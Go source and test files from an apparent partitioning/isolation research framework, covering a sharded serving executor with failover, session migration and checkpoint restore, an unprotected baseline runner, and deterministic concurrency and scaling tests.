// Per-shard subsequences (FailoverEventsFor) are deterministic for a fixed
// plan seed; the interleaving across shards is not, so replay assertions
// compare per shard.
type FailoverEvent struct {
	// At is the virtual time on the subject shard's clock.
	At vclock.Duration
	// Shard and Gen identify the shard incarnation the event concerns.
	Shard int
	Gen   int
	// Kind is "kill", "drain", "replace", "replace-failed", "migrate", or
	// "migrate-failed".
	Kind string
	// Detail carries the reason or subject (session id, error).
	Detail string
}

// String renders the event as one log line.
func (ev FailoverEvent) String() string {
	return fmt.Sprintf("@%v shard %d/gen %d %s %s", ev.At, ev.Shard, ev.Gen, ev.Kind, ev.Detail)
}

// Executor is the concurrent serving layer: a bounded worker pool over n
// runtime shards. Sessions are assigned to shards round-robin; at most n
// pipeline invocations run concurrently (one per shard worker), and
// invocations pinned to the same shard serialize on it. Immutable
// artifacts are shared across shards through the executor's read-only
// object store, and stateful-API state is written through to a portable
// checkpoint log so sessions survive the loss of their shard: a failed
// shard is drained, its sessions migrate to a replacement with their
// checkpointed state materialized there, and serving continues.
//
// With n = 1 and no faults the executor degenerates to the synchronous
// path: one shard, one worker, every invocation in submission order —
// byte-identical outputs to calling the runtime directly.
type Executor struct {
	shards  []*Shard
	store   *object.Store
	ckpt    *object.CheckpointLog
	factory ShardFactory
	sem     chan struct{}
	lat     *vclock.Latencies
	queue   *vclock.Latencies
	met     *metrics.Counters

	// failMu serializes whole failover operations (drain + replace +
	// migrate), so two sessions observing one dead shard produce one
	// replacement.
	failMu sync.Mutex

	mu        sync.Mutex
	sessions  []*Session
	retired   []*Shard
	killAt    map[int]vclock.Duration
	events    []FailoverEvent
	policy    HealthPolicy
	onReplace func(*Shard) error
}

// NewExecutor builds an executor over n shards produced by factory. The
// factory is retained: failover calls it again to build replacement shards.
func NewExecutor(n int, factory ShardFactory) (*Executor, error) {
	if n <= 0 {
		return nil, fmt.Errorf("core: executor needs n > 0 shards")
	}
	e := &Executor{
		store:   object.NewStore(),
		ckpt:    object.NewCheckpointLog(),
		factory: factory,
		sem:     make(chan struct{}, n),
		lat:     &vclock.Latencies{},
		queue:   &vclock.Latencies{},
		met:     metrics.New(),
		killAt:  make(map[int]vclock.Duration),
	}
	for i := 0; i < n; i++ {
		sh, err := factory(i)
		if err != nil {
			e.Close()
			return nil, err
		}
		if sh.Rt != nil {
			sh.Rt.SetCheckpointLog(e.ckpt)
		}
		e.shards = append(e.shards, sh)
	}
	return e, nil
}

// Shards returns the shard count.
func (e *Executor) Shards() int { return len(e.shards) }

// Shard returns the current incarnation serving shard id i.
func (e *Executor) Shard(i int) *Shard {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.shards[i]
}

// Incarnations returns every incarnation of shard id in generation order:
// retired (drained) shards first, then the current one. Tests use it to
// compare per-incarnation chaos injection logs across replays.
func (e *Executor) Incarnations(id int) []*Shard {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []*Shard
	for _, sh := range e.retired {
		if sh.ID == id {
			out = append(out, sh)
		}
	}
	return append(out, e.shards[id])
}

// Store returns the executor's shared read-only object store.
func (e *Executor) Store() *object.Store { return e.store }

// CheckpointLog returns the portable checkpoint log shared by all shards.
func (e *Executor) CheckpointLog() *object.CheckpointLog { return e.ckpt }

// Metrics returns the executor's serving-layer counters (ShardDrains,
// Migrations, FailedMigrations; runtime-level counters stay per shard).
func (e *Executor) Metrics() *metrics.Counters { return e.met }

// Latencies returns the per-invocation virtual latency distribution.
// Samples run from each request's arrival stamp to completion, so they
// include admission-queue wait, not just service time.
func (e *Executor) Latencies() *vclock.Latencies { return e.lat }

// QueueWaits returns the distribution of admission-queue waits alone — the
// virtual time requests spent queued behind earlier work on their shard.
func (e *Executor) QueueWaits() *vclock.Latencies { return e.queue }

// SetHealthPolicy installs the shard health policy. Set it before serving;
// the zero policy disables health-driven drains.
func (e *Executor) SetHealthPolicy(p HealthPolicy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.policy = p
}

// SetOnReplace installs a provisioning hook run on every replacement shard
// before it starts serving — the serving app reloads per-shard artifacts
// (e.g. its model) here.
func (e *Executor) SetOnReplace(fn func(*Shard) error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.onReplace = fn
}

// ScheduleKill arranges for shard id to be killed at the given virtual time
// on its own clock. The kill fires at the first admission at or after that
// time, which makes it deterministic: per-shard admission order is FIFO and
// the shard clock is a pure function of the work it ran. One schedule fires
// at most once; the replacement shard is not re-killed.
func (e *Executor) ScheduleKill(id int, at vclock.Duration) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.killAt[id] = at
}

// KillShard marks the current incarnation of shard id lost immediately and
// crashes its processes. Sessions pinned to it migrate at their next
// invocation. Must not be called from inside a job running on that shard.
func (e *Executor) KillShard(id int, reason string) {
	sh := e.Shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	e.killShardLocked(sh, reason)
}

// killShardLocked marks sh lost and crashes its processes. Caller holds
// sh.mu (or otherwise guarantees no job is running on sh).
func (e *Executor) killShardLocked(sh *Shard, reason string) {
	if !sh.fail(reason) {
		return
	}
	// The whole simulated machine behind the shard dies with it.
	for _, p := range sh.K.Processes() {
		if p.Alive() {
			sh.K.Crash(p, "shard killed: "+reason)
		}
	}
	e.recordEvent(sh, "kill", reason)
}

// applyScheduledKill fires a pending scheduled kill once the shard clock
// has reached it. Caller holds sh.mu.
func (e *Executor) applyScheduledKill(sh *Shard) {
	e.mu.Lock()
	at, ok := e.killAt[sh.ID]
	e.mu.Unlock()
	if !ok || sh.Failed() || sh.K.Clock.Now() < at {
		return
	}
	e.mu.Lock()
	delete(e.killAt, sh.ID)
	e.mu.Unlock()
	e.killShardLocked(sh, fmt.Sprintf("scheduled kill at %v", at))
}

// healthPolicy reads the installed policy.
func (e *Executor) healthPolicy() HealthPolicy {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.policy
}

// recordEvent appends to the failover log, stamped on the subject shard's
// clock.
func (e *Executor) recordEvent(sh *Shard, kind, detail string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.events = append(e.events, FailoverEvent{
		At: sh.K.Clock.Now(), Shard: sh.ID, Gen: sh.Gen, Kind: kind, Detail: detail,
	})
}

// FailoverEvents returns a copy of the full failover log.
func (e *Executor) FailoverEvents() []FailoverEvent {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]FailoverEvent, len(e.events))
	copy(out, e.events)
	return out
}

// FailoverEventsFor returns the failover log filtered to one shard id —
// the deterministic, replay-comparable subsequence.
func (e *Executor) FailoverEventsFor(id int) []FailoverEvent {
	var out []FailoverEvent
	for _, ev := range e.FailoverEvents() {
		if ev.Shard == id {
			out = append(out, ev)
		}
	}
	return out
}

// CriticalPath returns the max-merge of all shard clocks — the virtual
// wall-clock of the whole serving run (the slowest shard), which is what
// throughput divides by. Per-shard work that ran in parallel does not sum.
func (e *Executor) CriticalPath() vclock.Duration {
	e.mu.Lock()
	clocks := make([]*vclock.Clock, len(e.shards))
	for i, sh := range e.shards {
		clocks[i] = sh.K.Clock
	}
	e.mu.Unlock()
	return vclock.Max(clocks...)
}

// TotalWork returns the sum of all current shard clocks — aggregate virtual
// compute spent. TotalWork / CriticalPath is the run's effective
// parallelism.
func (e *Executor) TotalWork() vclock.Duration {
	e.mu.Lock()
	defer e.mu.Unlock()
	var sum vclock.Duration
	for _, sh := range e.shards {
		sum += sh.K.Clock.Now()
	}
	return sum
}

// Session opens a session pinned to the next shard round-robin. Assignment
// order is the order Session is called in, so sequential opens are
// deterministic.
func (e *Executor) Session() *Session {
	e.mu.Lock()
	defer e.mu.Unlock()
	s := &Session{
		ID:    len(e.sessions),
		ex:    e,
		shard: e.shards[len(e.sessions)%len(e.shards)],
		bound: make(map[string]Handle),
	}
	e.sessions = append(e.sessions, s)
	return s
}

// Close shuts down every current shard's runtime (retired shards were
// closed when they were drained).
func (e *Executor) Close() {
	e.mu.Lock()
	shards := append([]*Shard(nil), e.shards...)
	e.mu.Unlock()
	for _, sh := range shards {
		if sh.Rt != nil {
			sh.Rt.Close()
		}
	}
}

// isCrashClass reports whether a job error means the shard (or an agent on
// it) died rather than the application failing: the failures the shard
// health window counts.
func isCrashClass(err error, sh *Shard) bool {
	if err == nil {
		return false
	}
	if errors.Is(err, ipc.ErrAgentCrashed) || errors.Is(err, ipc.ErrPeerDead) || errors.Is(err, ipc.ErrTimeout) {
		return true
	}
	return sh.Rt != nil && !sh.Rt.Host.Alive()
}

// failover drains a lost shard: it waits for in-flight work to finish,
// builds a replacement via the factory, advances the replacement onto the
// run's virtual timeline, reprovisions it (OnReplace), swaps it in, and
// migrates every pinned session — materializing each session's checkpointed
// stateful-API state from the portable log into the replacement's agents.
// Idempotent: concurrent observers of one dead shard perform one failover.
func (e *Executor) failover(old *Shard) error {
	e.failMu.Lock()
	defer e.failMu.Unlock()
	e.mu.Lock()
	cur := e.shards[old.ID]
	e.mu.Unlock()
	if cur != old {
		return nil // already replaced
	}

	// Quiesce: once old.mu is held, no invocation is running on the shard
	// and none will be admitted (it is marked failed), so no checkpoint can
	// be written after its session migrates.
	old.mu.Lock()
	defer old.mu.Unlock()

	e.met.AddShardDrain()
	e.recordEvent(old, "drain", old.FailReason())

	repl, err := e.factory(old.ID)
	if err != nil {
		e.recordEvent(old, "replace-failed", err.Error())
		return fmt.Errorf("core: shard %d lost and replacement failed: %w", old.ID, err)
	}
	repl.Gen = old.Gen + 1
	// The replacement joins the run's timeline: available at the dead
	// shard's virtual time plus its own boot cost (its clock accumulated
	// boot work starting from zero).
	boot := repl.K.Clock.Now()
	repl.K.Clock.Observe(old.K.Clock.Now())
	repl.K.Clock.Advance(boot)
	if repl.Rt != nil {
		repl.Rt.SetCheckpointLog(e.ckpt)
	}
	e.mu.Lock()
	onReplace := e.onReplace
	e.mu.Unlock()
	if onReplace != nil {
		if perr := onReplace(repl); perr != nil {
			e.recordEvent(repl, "replace-failed", perr.Error())
			return fmt.Errorf("core: shard %d replacement provisioning: %w", old.ID, perr)
		}
	}

	e.mu.Lock()
	e.shards[old.ID] = repl
	e.retired = append(e.retired, old)
	sessions := append([]*Session(nil), e.sessions...)
	e.mu.Unlock()
	e.recordEvent(repl, "replace", fmt.Sprintf("gen %d", repl.Gen))

	for _, s := range sessions {
		if !s.pinnedTo(old) {
			continue
		}
		if merr := s.migrate(repl); merr != nil {
			e.met.AddFailedMigration()
			e.recordEvent(repl, "migrate-failed", fmt.Sprintf("session %d: %v", s.ID, merr))
			continue
		}
		e.met.AddMigration()
		e.recordEvent(repl, "migrate", fmt.Sprintf("session %d", s.ID))
	}

	if old.Rt != nil {
		old.Rt.Close()
	}
	return nil
}

// Session is one client's stream of pipeline invocations. All of a
// session's work runs on a single shard, so a client's framework state
// (open captures, loaded models, intermediate objects) stays on one
// runtime across invocations — until that shard is lost, at which point
// the session migrates to the replacement shard with its bound stateful
// state restored from the portable checkpoint log.
type Session struct {
	// ID is the session's global open order.
	ID int
	ex *Executor

	mu    sync.Mutex
	shard *Shard
	bound map[string]Handle
}

// Shard returns the shard this session is currently pinned to.
func (s *Session) Shard() *Shard {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard
}

// pinnedTo reports whether the session is pinned to sh.
func (s *Session) pinnedTo(sh *Shard) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard == sh
}

// Bind registers a durable stateful handle under a name. Bound handles are
// what failover migrates: after the session moves to a replacement shard,
// Bound(name) returns a handle to the same state materialized there (from
// its latest checkpoint), so the client keeps calling stateful APIs as if
// nothing happened.
func (s *Session) Bind(name string, h Handle) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.bound[name] = h
}

// Bound returns the current handle registered under name. Callers should
// re-fetch it before each use rather than caching the Handle value, since
// migration rebinds it.
func (s *Session) Bound(name string) (Handle, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	h, ok := s.bound[name]
	return h, ok
}

// migrate moves the session to shard `to`, materializing every bound
// handle's latest checkpoint into the replacement runtime. Bindings whose
// state cannot be restored keep their (now dangling) handle and surface an
// error; the session still moves — it must run somewhere.
func (s *Session) migrate(to *Shard) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	var firstErr error
	names := make([]string, 0, len(s.bound))
	for name := range s.bound {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		h := s.bound[name]
		if to.Rt == nil {
			firstErr = fmt.Errorf("core: cannot restore %q onto a direct shard", name)
			continue
		}
		cp, ok := s.ex.ckpt.LatestSlot(s.ID, object.Slot(h.ref.PID, h.ref.ID))
		if !ok {
			firstErr = fmt.Errorf("core: no checkpoint for bound handle %q", name)
			continue
		}
		nh, err := to.Rt.Adopt(s.ID, cp)
		if err != nil {
			firstErr = err
			continue
		}
		s.bound[name] = nh
	}
	s.shard = to
	return firstErr
}

// currentShard reads the session's pin.
func (s *Session) currentShard() *Shard {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard
}

// Do runs one pipeline invocation on the session's shard, with the arrival
// stamp taken at admission (no modeled queueing delay ahead of it). See
// DoAt.
func (s *Session) Do(job func(sh *Shard) error) error {
	return s.DoAt(-1, job)
}

// DoAt runs one pipeline invocation that arrived at the given virtual time
// on the session's shard clock. Admission is bounded by the executor's
// worker count; invocations on the same shard serialize. If the shard is
// idle past the arrival time its clock advances to the arrival (the shard
// waited for the request); if the shard is busy, the gap between arrival
// and service start is the request's admission-queue wait. The recorded
// virtual latency runs from arrival to completion — queueing plus service —
// and the wait alone is recorded in the executor's queue distribution.
//
// A negative arrival means "arrived now": the stamp is taken when the shard
// first admits the invocation, yielding zero queueing delay (the pre-PR-3
// behaviour).
//
// If the shard was lost (killed, or drained by the health policy), the
// session fails over — drain, replace, migrate — and the invocation runs on
// the replacement; a crash-class failure that trips the health threshold
// mid-invocation re-runs the invocation there too, so callers never observe
// the loss of a shard.
func (s *Session) DoAt(arrival vclock.Duration, job func(sh *Shard) error) error {
	s.ex.sem <- struct{}{}
	defer func() { <-s.ex.sem }()

	for {
		sh := s.currentShard()
		sh.mu.Lock()
		if sh != s.currentShard() {
			// Migrated while waiting for the shard lock.
			sh.mu.Unlock()
			continue
		}
		e := s.ex
		e.applyScheduledKill(sh)
		pol := e.healthPolicy()
		if !sh.Failed() && pol.DrainOnDegrade && sh.Rt != nil && sh.Rt.Metrics.Snapshot().Degraded > 0 {
			sh.fail("partition degraded to in-host execution")
		}
		if sh.Failed() {
			sh.mu.Unlock()
			if err := e.failover(sh); err != nil {
				return err
			}
			continue
		}

		now := sh.K.Clock.Now()
		if arrival < 0 {
			arrival = now
		}
		wait := vclock.Duration(0)
		if arrival > now {
			sh.K.Clock.Observe(arrival)
		} else {
			wait = now - arrival
		}
		if sh.Rt != nil {
			sh.Rt.SetSessionScope(s.ID)
		}
		err := job(sh)
		if sh.Rt != nil {
			sh.Rt.SetSessionScope(-1)
		}
		end := sh.K.Clock.Now()
		sh.jobs++

		crashed := isCrashClass(err, sh)
		if crashed && pol.FailThreshold > 0 {
			if n := sh.recordFailure(end, pol.FailWindow); n >= pol.FailThreshold {
				sh.fail(fmt.Sprintf("%d crash-class failures in window", n))
			}
		}
		failed := sh.Failed()
		sh.mu.Unlock()

		if crashed && failed {
			// The shard died under this invocation: fail over and re-run it
			// on the replacement. The latency sample keeps the original
			// arrival, so failover time lands in the tail percentiles.
			if ferr := e.failover(sh); ferr != nil {
				return ferr
			}
			continue
		}
		e.lat.Add(end - arrival)
		e.queue.Add(wait)
		return err
	}
}

// Call implements Caller on the session: a single-API invocation submitted
// through the pool. Pipelines of several calls should use Do so the whole
// invocation is admitted (and its latency measured) as one unit.
func (s *Session) Call(api string, args ...framework.Value) ([]Handle, []framework.Value, error) {
	var handles []Handle
	var plain []framework.Value
	err := s.Do(func(sh *Shard) error {
		var cerr error
		handles, plain, cerr = sh.Ex.Call(api, args...)
		return cerr
	})
	return handles, plain, err
}

// Fetch implements Caller on the session.
func (s *Session) Fetch(h Handle) ([]byte, error) {
	var out []byte
	err := s.Do(func(sh *Shard) error {
		var ferr error
		out, ferr = sh.Ex.Fetch(h)
		return ferr
	})
	return out, err
}
