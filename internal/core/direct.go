package core

import (
	"fmt"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/object"
)

// Direct runs framework APIs in the host process with no partitioning,
// isolation, or policies — the unprotected baseline every overhead number
// (Fig. 13, Table 9) is measured against, and the victim configuration in
// attack demonstrations.
type Direct struct {
	K       *kernel.Kernel
	Reg     *framework.Registry
	Proc    *kernel.Process
	Ctx     *framework.Ctx
	Metrics *metrics.Counters
}

// NewDirect builds an unprotected runner around one process.
func NewDirect(k *kernel.Kernel, reg *framework.Registry) *Direct {
	p := k.Spawn("monolith")
	return &Direct{K: k, Reg: reg, Proc: p, Ctx: framework.NewCtx(k, p), Metrics: metrics.New()}
}

// Call executes the API inline. Results stay as host-process objects, so
// the same Handle type works for app code written against either runner.
func (d *Direct) Call(apiName string, args ...framework.Value) ([]Handle, []framework.Value, error) {
	api, ok := d.Reg.Get(apiName)
	if !ok {
		return nil, nil, fmt.Errorf("core: unknown API %s", apiName)
	}
	d.Metrics.AddAPICall()
	results, err := api.Exec(d.Ctx, args)
	if err != nil {
		return nil, nil, err
	}
	var handles []Handle
	var plain []framework.Value
	for _, v := range results {
		if v.Kind == framework.ValObj {
			o, _ := d.Ctx.Table.Get(v.Obj)
			size := 0
			if o != nil {
				size = o.Region().Size
			}
			handles = append(handles, Handle{local: v.Obj, materialized: true, size: size})
			continue
		}
		plain = append(plain, v)
	}
	return handles, plain, nil
}

// Fetch reads a handle's payload from the host table.
func (d *Direct) Fetch(h Handle) ([]byte, error) {
	o, ok := d.Ctx.Table.Get(h.local)
	if !ok {
		return nil, fmt.Errorf("core: dangling handle %d", h.local)
	}
	return object.PayloadBytes(o)
}

// Free releases a handle's simulated memory and table entry. The
// simulation has no garbage collector, so long-running unprotected loops
// (benchmarks, servers) release buffers explicitly.
func (d *Direct) Free(h Handle) error {
	o, ok := d.Ctx.Table.Get(h.local)
	if !ok {
		return fmt.Errorf("core: dangling handle %d", h.local)
	}
	d.Ctx.Table.Delete(h.local)
	return d.Proc.Space().Free(o.Region())
}
