package core_test

import (
	"bytes"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

// newExecutor builds an executor of n protected shards with cleanup.
func newExecutor(t *testing.T, n int, cfg core.Config) *core.Executor {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(n, core.ProtectedShards(reg, cat, cfg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	return ex
}

// omrOnShard runs the OMR pipeline on a shard and returns the results.csv
// bytes and per-sheet scores.
func omrOnShard(t *testing.T, sh *core.Shard, sheets int) ([]byte, []int) {
	t.Helper()
	a, _ := apps.ByID(8) // OMRChecker
	e := apps.NewEnv(sh.K, sh.Ex, a)
	var scores []int
	var err error
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("pipeline aborted: %v", r)
			}
		}()
		_, scores, err = apps.OMRGradeAll(e, sheets)
	}()
	if err != nil {
		t.Fatalf("OMRGradeAll: %v", err)
	}
	csv, err := sh.K.FS.ReadFile(e.Dir + "/results.csv")
	if err != nil {
		t.Fatalf("results.csv: %v", err)
	}
	return csv, scores
}

// omrSynchronous runs OMR on a plain runtime (the pre-executor code path).
func omrSynchronous(t *testing.T, cfg core.Config, sheets int) ([]byte, []int) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	k := kernel.New()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(rt.Close)
	a, _ := apps.ByID(8)
	e := apps.NewEnv(k, rt, a)
	var scores []int
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("pipeline aborted: %v", r)
			}
		}()
		_, scores, err = apps.OMRGradeAll(e, sheets)
	}()
	if err != nil {
		t.Fatalf("OMRGradeAll: %v", err)
	}
	csv, err := k.FS.ReadFile(e.Dir + "/results.csv")
	if err != nil {
		t.Fatalf("results.csv: %v", err)
	}
	return csv, scores
}

// TestExecutorConcurrencyOneMatchesSynchronous pins the refactor's core
// obligation: an executor with one shard is the synchronous path — the OMR
// pipeline produces byte-identical output either way.
func TestExecutorConcurrencyOneMatchesSynchronous(t *testing.T) {
	const sheets = 2
	syncCSV, syncScores := omrSynchronous(t, core.Default(), sheets)

	ex := newExecutor(t, 1, core.Default())
	s := ex.Session()
	var exCSV []byte
	var exScores []int
	err := s.Do(func(sh *core.Shard) error {
		exCSV, exScores = omrOnShard(t, sh, sheets)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(exCSV, syncCSV) {
		t.Fatalf("executor output diverged from synchronous path\nexec: %q\nsync: %q", exCSV, syncCSV)
	}
	if !reflect.DeepEqual(exScores, syncScores) {
		t.Fatalf("scores diverged: %v vs %v", exScores, syncScores)
	}
}

// TestExecutorChaosDeterministicAtOneShard extends the obligation to chaos
// runs: with one shard, an executor run under a seeded engine must produce
// the same bytes AND the same injection log as the synchronous path — the
// chaos-replay guarantee survives the serving refactor.
func TestExecutorChaosDeterministicAtOneShard(t *testing.T) {
	const sheets, seed = 2, 17

	engSync := chaos.New(chaos.Scaled(seed, 0.05))
	syncCSV, _ := omrSynchronous(t, core.ChaosConfig(engSync), sheets)

	engExec := chaos.New(chaos.Scaled(seed, 0.05))
	ex := newExecutor(t, 1, core.ChaosConfig(engExec))
	s := ex.Session()
	var exCSV []byte
	err := s.Do(func(sh *core.Shard) error {
		exCSV, _ = omrOnShard(t, sh, sheets)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(exCSV, syncCSV) {
		t.Fatalf("chaos output diverged\nexec: %q\nsync: %q\nexec log:\n%s\nsync log:\n%s",
			exCSV, syncCSV, engExec.Log(), engSync.Log())
	}
	if !reflect.DeepEqual(engExec.Events(), engSync.Events()) {
		t.Fatalf("injection logs diverged:\n%s\nvs\n%s", engExec.Log(), engSync.Log())
	}
}

// TestExecutorSessionRoundRobin checks deterministic shard placement.
func TestExecutorSessionRoundRobin(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(3, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	for i := 0; i < 7; i++ {
		s := ex.Session()
		if s.ID != i {
			t.Fatalf("session %d has id %d", i, s.ID)
		}
		if got := s.Shard().ID; got != i%3 {
			t.Fatalf("session %d placed on shard %d, want %d", i, got, i%3)
		}
	}
}

// TestExecutorBoundsConcurrency checks that at most n invocations run at
// once: the pool admits one worker per shard.
func TestExecutorBoundsConcurrency(t *testing.T) {
	reg := all.Registry()
	const n = 2
	ex, err := core.NewExecutor(n, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)

	var cur, peak atomic.Int32
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		s := ex.Session()
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = s.Do(func(sh *core.Shard) error {
				c := cur.Add(1)
				for {
					p := peak.Load()
					if c <= p || peak.CompareAndSwap(p, c) {
						break
					}
				}
				sh.K.Clock.Advance(1) // touch the shard so the job isn't empty
				cur.Add(-1)
				return nil
			})
		}()
	}
	wg.Wait()
	if got := peak.Load(); got > n {
		t.Fatalf("observed %d concurrent invocations, pool bound is %d", got, n)
	}
	if ex.Latencies().Len() != 8 {
		t.Fatalf("recorded %d latency samples, want 8", ex.Latencies().Len())
	}
}

// TestExecutorSharedStoreBuildsOnce checks the copy-on-write sharing: four
// shards serve from one interned model build.
func TestExecutorSharedStoreBuildsOnce(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(4, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	st := ex.Store().Stats()
	if st.Builds != 1 {
		t.Fatalf("model built %d times for 4 shards, want 1", st.Builds)
	}
	reqs := apps.GenDetectionRequests(3, 12)
	results := srv.Serve(reqs)
	if got := apps.Served(results); got != len(reqs) {
		t.Fatalf("served %d/%d", got, len(reqs))
	}
	// Round-robin: 12 requests over 4 shards, 3 each.
	for i := 0; i < ex.Shards(); i++ {
		if got := ex.Shard(i).Jobs(); got != 3 {
			t.Fatalf("shard %d ran %d jobs, want 3", i, got)
		}
	}
}

// TestExecutorConcurrentSessionsOnProtectedShards drives overlapping
// pipeline invocations through protected runtimes from many goroutines —
// the serving layer's steady state, under the race detector.
func TestExecutorConcurrentSessionsOnProtectedShards(t *testing.T) {
	ex := newExecutor(t, 4, core.Default())
	const sessions = 12
	var wg sync.WaitGroup
	errs := make([]error, sessions)
	for i := 0; i < sessions; i++ {
		s := ex.Session()
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			errs[i] = s.Do(func(sh *core.Shard) error {
				path := pathFor(i % 8)
				writeImage(sh.K, path, 8, 8)
				img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
				if err != nil {
					return err
				}
				blur, _, err := sh.Ex.Call("cv.GaussianBlur", img[0].Value())
				if err != nil {
					return err
				}
				_, _, err = sh.Ex.Call("cv.imwrite", framework.Str(path+".out"), blur[0].Value())
				return err
			})
		}(i)
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("session %d: %v", i, err)
		}
	}
	if ex.CriticalPath() <= 0 {
		t.Fatal("critical path did not advance")
	}
	if ex.TotalWork() < ex.CriticalPath() {
		t.Fatal("total work below critical path")
	}
}
