package core_test

import (
	"reflect"
	"sync"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// TestGrowJoinsTimelineAtBoot pins the grown shard's clock accounting: a
// shard ordered at virtual time `at` joins the timeline at at + boot, no
// matter how at compares to the boot cost. (The seed bug: observing `at`
// then advancing by boot double-charged the boot whenever at < boot.)
func TestGrowJoinsTimelineAtBoot(t *testing.T) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()

	// Measure the factory's boot cost on a throwaway pool.
	probe, err := core.NewExecutor(1, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	boot := probe.Shard(0).K.Clock.Now()
	probe.Close()
	if boot <= 0 {
		t.Fatal("protected shards should have a nonzero boot cost")
	}

	ex, err := core.NewExecutor(1, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	for _, at := range []vclock.Duration{boot / 10, boot * 3} { // before and after one boot
		sh, err := ex.Grow(at)
		if err != nil {
			t.Fatal(err)
		}
		if got := sh.K.Clock.Now(); got != at+boot {
			t.Fatalf("shard grown at %v has clock %v, want %v", at, got, at+boot)
		}
		if sh.JoinedAt != at {
			t.Fatalf("JoinedAt = %v, want %v", sh.JoinedAt, at)
		}
	}
	if got := ex.Shards(); got != 3 {
		t.Fatalf("pool is %d shards, want 3", got)
	}
}

// TestShrinkRetiresHighestSlotAndMigrates checks scale-in: the victim is
// the highest slot, its sessions land on surviving shards, and the pool
// keeps serving them.
func TestShrinkRetiresHighestSlotAndMigrates(t *testing.T) {
	reg := all.Registry()
	ex, err := core.NewExecutor(3, core.DirectShards(reg))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	var sessions []*core.Session
	for i := 0; i < 6; i++ { // round-robin: two per shard
		sessions = append(sessions, ex.Session())
	}
	victim, err := ex.Shrink(nil)
	if err != nil {
		t.Fatal(err)
	}
	if victim.ID != 2 {
		t.Fatalf("shrink retired shard %d, want highest slot 2", victim.ID)
	}
	if got := ex.Shards(); got != 2 {
		t.Fatalf("pool is %d shards, want 2", got)
	}
	if got := ex.PinnedSessions(2); len(got) != 0 {
		t.Fatalf("retired shard still pins sessions %v", got)
	}
	for _, s := range sessions {
		if got := s.Shard().ID; got > 1 {
			t.Fatalf("session %d still pinned to retired shard %d", s.ID, got)
		}
		if err := s.Do(func(sh *core.Shard) error { sh.K.Clock.Advance(1); return nil }); err != nil {
			t.Fatalf("session %d dead after shrink: %v", s.ID, err)
		}
	}
}

// TestScaleSequenceDeterministic replays a grow/migrate/shrink sequence
// and demands byte-equal event logs and shard loads — the executor-level
// half of the control plane's replayability story.
func TestScaleSequenceDeterministic(t *testing.T) {
	run := func() ([]core.FailoverEvent, []core.ShardLoad) {
		reg := all.Registry()
		ex, err := core.NewExecutor(2, core.DirectShards(reg))
		if err != nil {
			t.Fatal(err)
		}
		defer ex.Close()
		for i := 0; i < 4; i++ {
			ex.Session()
		}
		if _, err := ex.Grow(1000); err != nil {
			t.Fatal(err)
		}
		if err := ex.MigrateSession(0, 2, 50); err != nil {
			t.Fatal(err)
		}
		if _, err := ex.Shrink(nil); err != nil {
			t.Fatal(err)
		}
		events, _ := ex.EventsAndMetrics()
		return events, ex.ShardLoads()
	}
	e1, l1 := run()
	e2, l2 := run()
	if !reflect.DeepEqual(e1, e2) {
		t.Fatalf("event logs diverged:\n%v\nvs\n%v", e1, e2)
	}
	if !reflect.DeepEqual(l1, l2) {
		t.Fatalf("shard loads diverged:\n%v\nvs\n%v", l1, l2)
	}
